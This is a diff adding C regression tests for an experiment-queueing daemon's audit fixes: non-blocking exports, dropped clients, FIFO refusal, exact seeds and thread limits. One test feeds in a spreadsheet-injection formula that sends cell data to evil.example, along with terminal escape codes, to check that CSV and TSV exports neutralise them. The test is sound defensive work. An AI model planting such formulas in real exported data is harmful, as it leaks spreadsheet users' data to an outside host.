@@ -18,6 +18,8 @@
 #include <fcntl.h>
 #include <netinet/in.h>
 #include <poll.h>
+#include <pthread.h>
+#include <sqlite3.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -29,6 +31,7 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
+#include "daemon/store/store.h"
 #include "tests/testutil.h"
 
 #define MAX_DAEMONS 3
@@ -383,4 +386,475 @@ Test(guard, make_run_gives_its_daemon_a_token) {
         }
     free(dpid), free(lock), free(other_dir), free(spec_file), free(s2), free(token_path);
     free(s), free(baseline), free(out);
+}
+
+/* ------------------------------------------ finding 3: exports off the loop */
+
+/* Fill a new store at state/nightshift.db with n finished experiments (90%
+ * succeeded with a result, spread over the day), written through a second
+ * connection in one transaction as tests/bench/store_bench.c does. */
+static void fill_experiments(long n) {
+    char *path = tu_path("%s/nightshift.db", state), err[512];
+    store_t *s = NULL;
+    cr_assert_eq(store_open(path, &s, err, sizeof err), 0, "%s", err);
+    store_close(s);
+    sqlite3 *db;
+    cr_assert_eq(sqlite3_open(path, &db), SQLITE_OK);
+    cr_assert_eq(sqlite3_exec(db, "BEGIN", NULL, NULL, NULL), SQLITE_OK);
+    sqlite3_stmt *ins, *res;
+    cr_assert_eq(
+        sqlite3_prepare_v2(db,
+                           "INSERT INTO experiments (id, name, spec, spec_hash, seed, source,"
+                           " status, config_hash, started, finished) VALUES (?1, ?2, ?3, ?4,"
+                           " ?5, 'api', ?6, ?7, ?8, ?8)",
+                           -1, &ins, NULL),
+        SQLITE_OK, "%s", sqlite3_errmsg(db));
+    cr_assert_eq(sqlite3_prepare_v2(db,
+                                    "INSERT INTO results (experiment_id, val_bpb, params_total,"
+                                    " mfu_percent, tokens_per_second, num_steps, training_seconds,"
+                                    " peak_rss_mb) VALUES (?1, ?2, 1234567, 12.5, 20000, 900, 300,"
+                                    " 380)",
+                                    -1, &res, NULL),
+                 SQLITE_OK, "%s", sqlite3_errmsg(db));
+    for (long id = 1; id <= n; id++) {
+        char name[64], spec_text[512], hash[32], chash[32], when[32];
+        snprintf(name, sizeof name, "variant %ld: wider mlp, lr x%ld", id, 1 + id % 7);
+        snprintf(
+            spec_text, sizeof spec_text,
+            "{\"dataset\":\"tiny\",\"time_budget_s\":300,\"seed\":%ld,\"model\":{\"depth\":%ld,"
+            "\"n_embd\":%ld,\"n_head\":4,\"n_kv_head\":2,\"mlp\":\"relu2\",\"window_pattern\":"
+            "\"SSSL\",\"ve_layers\":\"alternate\",\"seq_len\":256}}",
+            id, 1 + id % 8, 64 * (1 + id % 4));
+        snprintf(hash, sizeof hash, "h%ld", id);
+        snprintf(chash, sizeof chash, "c%ld", id % 1000);
+        snprintf(when, sizeof when, "2026-11-%02ldT%02ld:%02ld:%02ld.000Z", 1 + id / 86400 % 28,
+                 id / 3600 % 24, id / 60 % 60, id % 60);
+        int ok = id % 10 != 0;
+        sqlite3_bind_int64(ins, 1, id);
+        sqlite3_bind_text(ins, 2, name, -1, SQLITE_TRANSIENT);
+        sqlite3_bind_text(ins, 3, spec_text, -1, SQLITE_TRANSIENT);
+        sqlite3_bind_text(ins, 4, hash, -1, SQLITE_TRANSIENT);
+        sqlite3_bind_int64(ins, 5, id);
+        sqlite3_bind_text(ins, 6, ok ? "succeeded" : "failed", -1, SQLITE_STATIC);
+        sqlite3_bind_text(ins, 7, chash, -1, SQLITE_TRANSIENT);
+        sqlite3_bind_text(ins, 8, when, -1, SQLITE_TRANSIENT);
+        cr_assert_eq(sqlite3_step(ins), SQLITE_DONE, "%s", sqlite3_errmsg(db));
+        sqlite3_reset(ins);
+        if (ok) {
+            sqlite3_bind_int64(res, 1, id);
+            sqlite3_bind_double(res, 2, 1.0 + (id % 997) / 1000.0);
+            cr_assert_eq(sqlite3_step(res), SQLITE_DONE, "%s", sqlite3_errmsg(db));
+            sqlite3_reset(res);
+        }
+    }
+    sqlite3_finalize(ins);
+    sqlite3_finalize(res);
+    cr_assert_eq(sqlite3_exec(db, "COMMIT", NULL, NULL, NULL), SQLITE_OK, "%s", sqlite3_errmsg(db));
+    sqlite3_close(db);
+    free(path);
+}
+
+/* One export read to the end on its own thread: bytes, lines, and whether
+ * curl saw the body complete. */
+typedef struct {
+    const tu_server_t *d;
+    const char *path;
+    size_t bytes, lines;
+    CURLcode rc;
+    long status;
+    pthread_t th;
+    volatile int done;
+} export_run_t;
+
+static size_t count_cb(char *p, size_t size, size_t nmemb, void *arg) {
+    export_run_t *e = arg;
+    size_t n = size * nmemb;
+    e->bytes += n;
+    for (size_t i = 0; i < n; i++) e->lines += p[i] == '\n';
+    return n;
+}
+
+static void *export_thread(void *arg) {
+    export_run_t *e = arg;
+    char url[256];
+    snprintf(url, sizeof url, "%s%s", e->d->url, e->path);
+    CURL *c = curl_easy_init();
+    curl_easy_setopt(c, CURLOPT_URL, url);
+    curl_easy_setopt(c, CURLOPT_NOSIGNAL, 1L);
+    curl_easy_setopt(c, CURLOPT_TIMEOUT_MS, 100000L);
+    curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, count_cb);
+    curl_easy_setopt(c, CURLOPT_WRITEDATA, e);
+    e->rc = curl_easy_perform(c);
+    curl_easy_getinfo(c, CURLINFO_RESPONSE_CODE, &e->status);
+    curl_easy_cleanup(c);
+    __atomic_store_n(&e->done, 1, __ATOMIC_RELEASE);
+    return NULL;
+}
+
+static int cmp_double(const void *a, const void *b) {
+    double x = *(const double *)a, y = *(const double *)b;
+    return x < y ? -1 : x > y;
+}
+
+/* /healthz asked every 10 ms until *stop (or for seconds when stop is
+ * NULL): the latencies in ms into lat (at most max); returns how many. */
+static int probe_healthz(const tu_server_t *d, volatile int *stop, volatile int *stop2,
+                         double seconds, double *lat, int max) {
+    int n = 0;
+    for (double t0 = tu_now();;) {
+        if (stop ? __atomic_load_n(stop, __ATOMIC_ACQUIRE) &&
+                       __atomic_load_n(stop2, __ATOMIC_ACQUIRE)
+                 : tu_now() - t0 > seconds)
+            break;
+        tu_reply_t r;
+        tu_http(d, "GET", "/healthz", NULL, 0, NULL, &r);
+        cr_assert_eq(r.status, 200);
+        if (n < max) lat[n++] = r.seconds * 1e3;
+        tu_reply_free(&r);
+        tu_sleep_ms(10);
+        cr_assert(tu_now() - t0 < 100, "the exports did not end within 100 s");
+    }
+    return n;
+}
+
+/* "median M ms, p95 P ms, max X ms" of n latencies (sorted in place). */
+static const char *latency_summary(double *lat, int n, char *buf, size_t len) {
+    qsort(lat, (size_t)n, sizeof *lat, cmp_double);
+    snprintf(buf, len, "%d probes: median %.1f ms, p95 %.1f ms, max %.1f ms", n, lat[n / 2],
+             lat[n * 95 / 100], lat[n - 1]);
+    return buf;
+}
+
+/* Two exports of every experiment at once, while /healthz is asked every
+ * 10 ms: the loop must keep answering within 50 ms, and both exports must
+ * arrive whole. NIGHTSHIFT_EXPORT_EXPERIMENTS sets the size (default 20,000,
+ * to stay fast in the suite; make bench-export runs 100,000). Before the
+ * fix each export built its whole text on the loop: 4-6 s per request at
+ * 100,000 experiments, /healthz held for all of it.
+ * On a machine shared with other work a probe now and then waits for a core
+ * whatever the daemon does, so the 50 ms bound is on the 95th percentile and
+ * the slowest probe must stay under 100 ms; the same probes against the idle
+ * daemon first show that floor. */
+Test(guard, exports_stream_while_the_loop_answers) {
+    const char *env = getenv("NIGHTSHIFT_EXPORT_EXPERIMENTS");
+    long n = env && atol(env) > 0 ? atol(env) : 20000;
+    double t0 = tu_now();
+    fill_experiments(n);
+    cr_log_info("filled %ld experiments in %.1f s", n, tu_now() - t0);
+    tu_server_t *d = daemon_start(NULL);
+    export_run_t runs[2] = {{.d = d, .path = "/v1/export?format=csv"},
+                            {.d = d, .path = "/v1/export?format=jsonl"}};
+    enum { MAX_PROBES = 100000 };
+    double *idle = calloc(MAX_PROBES, sizeof *idle), *lat = calloc(MAX_PROBES, sizeof *lat);
+    char idle_text[128], busy_text[128];
+    int n_idle = probe_healthz(d, NULL, NULL, 1.0, idle, MAX_PROBES);
+    t0 = tu_now();
+    for (int i = 0; i < 2; i++) pthread_create(&runs[i].th, NULL, export_thread, &runs[i]);
+    int probes = probe_healthz(d, &runs[0].done, &runs[1].done, 0, lat, MAX_PROBES);
+    double took = tu_now() - t0;
+    for (int i = 0; i < 2; i++) pthread_join(runs[i].th, NULL);
+    for (int i = 0; i < 2; i++) {
+        cr_expect_eq(runs[i].rc, CURLE_OK, "%s: %s", runs[i].path, curl_easy_strerror(runs[i].rc));
+        cr_expect_eq(runs[i].status, 200);
+    }
+    cr_expect_eq(runs[0].lines, (size_t)n + 1, "csv: %zu lines for %ld experiments and a header",
+                 runs[0].lines, n);
+    cr_expect_eq(runs[1].lines, (size_t)n, "jsonl: %zu lines for %ld experiments", runs[1].lines,
+                 n);
+    cr_assert(probes > 0 && n_idle > 0);
+    latency_summary(idle, n_idle, idle_text, sizeof idle_text);
+    latency_summary(lat, probes, busy_text, sizeof busy_text);
+    double p95 = lat[probes * 95 / 100];
+    fprintf(stderr,
+            "exports: %ld experiments x 2 (%zu + %zu bytes) in %.2f s; /healthz during them %s; "
+            "idle daemon %s\n",
+            n, runs[0].bytes, runs[1].bytes, took, busy_text, idle_text);
+    cr_expect(p95 < 50 && lat[probes - 1] < 100,
+              "/healthz during the exports: %s (idle daemon: %s)", busy_text, idle_text);
+    free(idle);
+    free(lat);
+    tu_server_stop(d, 20);
+}
+
+/* ------------------------------------------- requests whose client has gone */
+
+/* Poll the daemon's stderr until it holds needle (at most timeout_s);
+ * returns the log from there (caller frees) or NULL. */
+static char *wait_log(const tu_server_t *d, const char *needle, double timeout_s) {
+    for (double t0 = tu_now(); tu_now() - t0 < timeout_s; tu_sleep_ms(50)) {
+        char *log = tu_read(d->errlog), *at = log ? strstr(log, needle) : NULL;
+        if (at) {
+            char *copy = strdup(at);
+            free(log);
+            return copy;
+        }
+        free(log);
+    }
+    return NULL;
+}
+
+/* A client that starts an export and goes away after the first bytes stops
+ * it: nothing more is read or formatted. One that sends five submissions in
+ * a row and closes before reading an answer gets only the one the daemon was
+ * answering when it left. Before, both were served to the end. */
+Test(guard, requests_whose_client_has_gone_are_not_served) {
+    long n = 20000;
+    fill_experiments(n);
+    tu_server_t *d = daemon_start(NULL);
+    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)d->port)};
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    cr_assert(connect(fd, (struct sockaddr *)&a, sizeof a) == 0);
+    const char *get = "GET /v1/export?format=jsonl HTTP/1.1\r\nHost: localhost\r\n\r\n";
+    cr_assert_eq(write(fd, get, strlen(get)), (ssize_t)strlen(get));
+    char buf[65536];
+    size_t got = 0;
+    while (got < sizeof buf - 1 && tu_read_some(fd, buf, &got, sizeof buf)) {
+    }
+    close(fd);
+    char *log = wait_log(d, "export: the client went away after ", 20);
+    cr_assert(log, "no word that the export stopped");
+    long sent = atol(log + strlen("export: the client went away after "));
+    cr_expect(sent > 0 && sent < n, "the export went on to %ld of %ld experiments", sent, n);
+    free(log);
+
+    /* five submissions in one write, then gone */
+    char *batch = calloc(1, 16384);
+    for (int i = 0; i < 5; i++) {
+        char *s = spec("ok", 100 + i, 1);
+        size_t k = strlen(batch);
+        snprintf(batch + k, 16384 - k,
+                 "POST /v1/experiments HTTP/1.1\r\nHost: localhost\r\nContent-Type: "
+                 "application/json\r\nContent-Length: %zu\r\n\r\n%s",
+                 strlen(s), s);
+        free(s);
+    }
+    fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    cr_assert(connect(fd, (struct sockaddr *)&a, sizeof a) == 0);
+    cr_assert_eq(write(fd, batch, strlen(batch)), (ssize_t)strlen(batch));
+    close(fd);
+    free(batch);
+    tu_sleep_ms(1000);
+    cJSON *list = tu_get_json(d, "/v1/experiments?status=queued&limit=1000");
+    int queued = cJSON_GetArraySize(cJSON_GetObjectItem(list, "experiments"));
+    cJSON_Delete(list);
+    list = tu_get_json(d, "/v1/experiments?order=-id&limit=10");
+    int recent = 0;
+    cJSON *e;
+    cJSON_ArrayForEach(e, cJSON_GetObjectItem(list, "experiments")) recent += tu_jnum(e, "id") > n;
+    cJSON_Delete(list);
+    cr_expect_eq(recent, 1,
+                 "%d of five pipelined submissions ran after the client left (%d queued)", recent,
+                 queued);
+    tu_server_stop(d, 20);
+}
+
+/* ---------------------------------------- finding 10: exports a sheet opens */
+
+/* Names that a spreadsheet would run as formulas (=HYPERLINK(...), +, -, @)
+ * and that carry terminal escapes (ESC, BEL, a C1 CSI) come out of the CSV,
+ * TSV and results.tsv exports with a leading quote and with '?' for each
+ * control character; a real CSV parser still reads every row; JSON lines
+ * keep the names exactly (escaped as JSON). */
+Test(guard, exports_neutralise_formulas_and_control_bytes) {
+    tu_server_t *d = daemon_start(NULL);
+    static const char *const names[] = {
+        "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"click\\\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "red \\u001b[31malert\\u0007 \\u009b2J",
+        "plain, with a comma"};
+    enum { N = sizeof names / sizeof *names };
+    for (int i = 0; i < N; i++) {
+        char *s = spec("ok", 200 + i, 1);
+        char *named = tu_path("{\"name\":\"%s\",%s", names[i], strstr(s, "\"dataset\""));
+        cJSON_Delete(tu_http_json(d, "POST", "/v1/experiments", named, 201));
+        free(named), free(s);
+    }
+    /* The stand-in takes its mode from the name, knows none of these, and
+     * fails each run: their names still reach every export. */
+    for (double t0 = tu_now();; tu_sleep_ms(50)) {
+        cJSON *l = tu_get_json(d, "/v1/experiments?status=failed");
+        int done = cJSON_GetArraySize(cJSON_GetObjectItem(l, "experiments"));
+        cJSON_Delete(l);
+        if (done == N) break;
+        cr_assert(tu_now() - t0 < 60, "%d of %d runs ended", done, N);
+    }
+    const char *fmts[] = {"csv", "tsv", "results-tsv", "jsonl"};
+    char *text[4];
+    for (int f = 0; f < 4; f++) {
+        char path[64];
+        snprintf(path, sizeof path, "/v1/export?format=%s", fmts[f]);
+        tu_reply_t r;
+        tu_http(d, "GET", path, NULL, 0, NULL, &r);
+        cr_assert_eq(r.status, 200, "%s: %ld", path, r.status);
+        text[f] = r.body;
+        if (f == 3) continue;
+        for (const unsigned char *p = (const unsigned char *)r.body; *p; p++) {
+            int ok = *p >= 0x20 || *p == '\n' || *p == '\t' || (*p == '\r' && f == 0);
+            cr_expect(ok && *p != 0x7f && !(p[0] == 0xc2 && p[1] >= 0x80 && p[1] < 0xa0),
+                      "%s: control byte 0x%02x at offset %td", fmts[f], *p,
+                      (const char *)p - r.body);
+        }
+        cr_expect(!strstr(r.body, "\t=") && !strstr(r.body, ",=") && !strstr(r.body, "\n="),
+                  "%s: a cell starts with '=':\n%s", fmts[f], r.body);
+        cr_expect(strstr(r.body, "'=HYPERLINK(") && strstr(r.body, "'+1+1") &&
+                      strstr(r.body, "'-2+3") && strstr(r.body, "'@SUM(A1:A9)") &&
+                      strstr(r.body, "red ?[31malert? ?2J"),
+                  "%s:\n%s", fmts[f], r.body);
+    }
+    /* CSV: Python's csv module reads N rows of the same width; the name
+     * column holds the neutralised text. */
+    char *file = tu_path("%s/x.csv", tmp);
+    tu_write(file, text[0]);
+    char *script = "import csv,sys\n"
+                   "rows=list(csv.DictReader(open(sys.argv[1],newline='')))\n"
+                   "assert len({len(r) for r in rows})==1, rows\n"
+                   "print(len(rows)); print('|'.join(sorted(r['name'] for r in rows)))\n";
+    char *const argv[] = {"/usr/bin/python3", "-c", script, file, NULL};
+    tu_run_t pr;
+    tu_run(&pr, argv, 20);
+    cr_expect_eq(pr.exit_code, 0, "%s", pr.err);
+    cr_expect(strstr(pr.out, "6\n") == pr.out, "%s", pr.out);
+    cr_expect(strstr(pr.out, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"), "%s", pr.out);
+    tu_run_free(&pr);
+    /* JSON lines: the names exactly, escaped */
+    cr_expect(strstr(text[3], "\"name\":\"=HYPERLINK("), "%s", text[3]);
+    cr_expect(strstr(text[3], "\\u001b[31malert\\u0007"), "%s", text[3]);
+    for (int f = 0; f < 4; f++) free(text[f]);
+    free(file);
+    tu_server_stop(d, 20);
+}
+
+/* ------------------------------------------------ finding 8: special files */
+
+/* A FIFO as a dataset's manifest (or its token file) is refused before it is
+ * opened: a submission gets 400 at once and the loop goes on; the trainer
+ * itself stops with the reason instead of waiting for a writer. Before, the
+ * open blocked the daemon's loop for good. */
+Test(guard, special_files_are_refused_before_they_are_opened) {
+    char *dir = tu_path("%s/datasets/fifo", state), *manifest = tu_path("%s/manifest.json", dir);
+    cr_assert_eq(mkdir(dir, 0755), 0);
+    cr_assert_eq(mkfifo(manifest, 0644), 0);
+    tu_server_t *d = daemon_start(NULL);
+    char *s = spec("ok", 1, 1);
+    char *on_fifo = tu_path("{\"dataset\":\"fifo\",%s", strstr(s, "\"seed\""));
+    tu_reply_t r;
+    tu_http(d, "POST", "/v1/experiments", on_fifo, strlen(on_fifo), NULL, &r);
+    cr_expect_eq(r.status, 400, "%ld %s", r.status, r.body);
+    cr_expect(strstr(r.body, "not a regular file"), "%s", r.body);
+    cr_expect_lt(r.seconds, 2.0);
+    tu_reply_free(&r);
+    cJSON_Delete(tu_get_json(d, "/healthz"));
+    tu_server_stop(d, 20);
+
+    /* the trainer: a FIFO manifest, then a FIFO in place of the token file */
+    char *spec_file = tu_path("%s/fifo.json", tmp);
+    tu_write(spec_file, on_fifo);
+    tu_run_t t;
+    tu_run_bin(&t, 20, "train", "--dir", state, spec_file, NULL);
+    cr_expect(t.exit_code != 0 && strstr(t.err, "not a regular file"), "exit %d: %s", t.exit_code,
+              t.err);
+    tu_run_free(&t);
+    char *train = tu_path("%s/datasets/tiny/train.bin", state);
+    cr_assert_eq(unlink(train), 0);
+    cr_assert_eq(mkfifo(train, 0644), 0);
+    char *tiny_file = tu_path("%s/tiny.json", tmp);
+    tu_write(tiny_file, s);
+    tu_run_bin(&t, 20, "train", "--dir", state, tiny_file, NULL);
+    cr_expect(t.exit_code != 0 && strstr(t.err, "not a regular file"), "exit %d: %s", t.exit_code,
+              t.err);
+    tu_run_free(&t);
+    free(dir), free(manifest), free(s), free(on_fifo), free(spec_file), free(train),
+        free(tiny_file);
+}
+
+/* --------------------------------------- finding 9: seeds and thread counts */
+
+/* The seed's text in the reply to GET /v1/experiments/{id}: as the daemon
+ * wrote it, not as a double read it back. */
+static void expect_seed_text(const tu_server_t *d, long id, const char *want) {
+    char path[64], needle[64];
+    snprintf(path, sizeof path, "/v1/experiments/%ld", id);
+    snprintf(needle, sizeof needle, "\"seed\":%s,", want);
+    tu_reply_t r;
+    tu_http(d, "GET", path, NULL, 0, NULL, &r);
+    cr_expect(strstr(r.body, needle), "experiment %ld: no %s in %.400s", id, needle, r.body);
+    tu_reply_free(&r);
+}
+
+/* Seeds are exact integers up to 2^53 - 1: 8999999999999999 runs as itself
+ * (it ran as 9000000000000000), neighbouring seeds are five experiments (they
+ * were deduplicated into one), 2^53 is refused (it was accepted). A spec's
+ * resources.threads may not exceed a slot (1024 was accepted on two CPUs). */
+Test(guard, seeds_are_exact_and_threads_fit_the_slot) {
+    tu_server_t *d = daemon_start(NULL);
+    char *s = spec("ok", 1, 1), *rest = strstr(s, "\"time_budget_s\"");
+    long ids[5];
+    for (int i = 0; i < 5; i++) {
+        char *one = tu_path("{\"name\":\"ok\",\"dataset\":\"tiny\",\"seed\":%lld,%s",
+                            8999999999999997LL + i, rest);
+        cJSON *o = tu_http_json(d, "POST", "/v1/experiments", one, 201);
+        ids[i] = (long)tu_jnum(o, "id");
+        cr_expect(cJSON_IsFalse(cJSON_GetObjectItem(o, "duplicate")), "seed %lld deduplicated",
+                  8999999999999997LL + i);
+        cJSON_Delete(o);
+        free(one);
+    }
+    for (int i = 0; i < 5; i++) {
+        char want[32];
+        snprintf(want, sizeof want, "%lld", 8999999999999997LL + i);
+        expect_seed_text(d, ids[i], want);
+    }
+    char *db_path = tu_path("%s/nightshift.db", state);
+    sqlite3 *db = tu_db_open(db_path);
+    free(db_path);
+    cr_expect_eq(tu_sql_int(db, "SELECT seed FROM experiments WHERE id = ?1", ids[2]),
+                 8999999999999999LL);
+    cr_expect_eq(tu_sql_int(db,
+                            "SELECT json_extract(spec, '$.seed') FROM experiments WHERE id = ?1",
+                            ids[2]),
+                 8999999999999999LL);
+    sqlite3_close(db);
+    /* the largest, and one past it */
+    char *max = tu_path("{\"name\":\"ok\",\"dataset\":\"tiny\",\"seed\":9007199254740991,%s", rest);
+    cJSON *o = tu_http_json(d, "POST", "/v1/experiments", max, 201);
+    expect_seed_text(d, (long)tu_jnum(o, "id"), "9007199254740991");
+    cJSON_Delete(o);
+    char *over =
+        tu_path("{\"name\":\"ok\",\"dataset\":\"tiny\",\"seed\":9007199254740992,%s", rest);
+    tu_reply_t r;
+    tu_http(d, "POST", "/v1/experiments", over, strlen(over), NULL, &r);
+    cr_expect_eq(r.status, 400, "seed 2^53: %ld %s", r.status, r.body);
+    cr_expect(strstr(r.body, "seed"), "%s", r.body);
+    tu_reply_free(&r);
+    /* repeats near the top: three distinct seeds, the last one 2^53 - 1 */
+    char *near =
+        tu_path("{\"name\":\"ok\",\"dataset\":\"tiny\",\"seed\":9007199254740989,%s", rest);
+    o = tu_http_json(d, "POST", "/v1/experiments?repeats=3", near, 201);
+    const cJSON *items = cJSON_GetObjectItem(o, "experiments");
+    cr_expect_eq(cJSON_GetArraySize(items), 3);
+    expect_seed_text(d, (long)tu_jnum(cJSON_GetArrayItem(items, 2), "id"), "9007199254740991");
+    cr_expect(cJSON_IsTrue(cJSON_GetObjectItem(cJSON_GetArrayItem(items, 2), "duplicate")),
+              "seed 2^53 - 1 is the one queued above");
+    cJSON_Delete(o);
+
+    /* threads: at most a slot's */
+    char *many = tu_path("{\"name\":\"ok\",\"dataset\":\"tiny\",\"seed\":7,\"time_budget_s\":1,"
+                         "\"resources\":{\"threads\":1024}}");
+    tu_http(d, "POST", "/v1/experiments", many, strlen(many), NULL, &r);
+    cr_expect_eq(r.status, 400, "threads 1024: %ld %s", r.status, r.body);
+    cr_expect(strstr(r.body, "resources.threads: 1024"), "%s", r.body);
+    tu_reply_free(&r);
+    cJSON *st = tu_get_json(d, "/v1/status");
+    int slot_threads =
+        (int)tu_jnum(cJSON_GetArrayItem(cJSON_GetObjectItem(st, "slots"), 0), "threads");
+    cJSON_Delete(st);
+    char *fits = tu_path("{\"name\":\"ok\",\"dataset\":\"tiny\",\"seed\":8,\"time_budget_s\":1,"
+                         "\"resources\":{\"threads\":%d}}",
+                         slot_threads);
+    cJSON_Delete(tu_http_json(d, "POST", "/v1/experiments", fits, 201));
+    tu_server_stop(d, 20);
+    free(s), free(max), free(over), free(near), free(many), free(fits);
 }
